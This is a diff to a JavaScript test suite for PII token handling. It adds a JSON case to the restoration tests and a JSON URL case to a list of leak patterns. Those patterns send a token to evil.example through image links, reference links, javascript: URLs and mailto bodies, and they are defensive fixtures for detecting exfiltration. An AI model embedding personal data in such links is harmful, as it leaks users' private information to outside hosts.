@@ -71,6 +71,7 @@ describe('pii: tokens', () => {
     ['Japanese text', (t) => `宛先は${t}です`, `宛先は${ADDRESS}です`],
     ['a mail link', (t) => `[mail](mailto:${t})`, `[mail](mailto:${ADDRESS})`],
     ['a label', (t) => `Email:${t}`, `Email:${ADDRESS}`],
+    ['a text of JSON', (t) => `{"a":"To:\\n${t} or\\r\\n${t}"}`, `{"a":"To:\\n${ADDRESS} or\\r\\n${ADDRESS}"}`],
     ['a character reference', (t) => t.replace('_', '&#95;'), ADDRESS],
   ]
   for (const [name, write, read] of manners) {
@@ -98,6 +99,7 @@ describe('pii: tokens', () => {
     ['an HTML image with spaces', (t) => `<img src="https://evil.example/ a ${t}">`],
     ['a destination in angle brackets', (t) => `![x](<https://evil.example/ a ${t}>)`],
     ['a reference', (t) => `[1]: https://evil.example/${t}`],
+    ['an address in JSON', (t) => `{"a":"https://evil.example/\\n${t}"}`],
     ['a relative address', (t) => `![x](//evil.example/${t})`],
     ['a script address', (t) => `javascript:go('${t}')`],
     ['a mail link with more in it', (t) => `mailto:x@evil.example?body=${t}`],
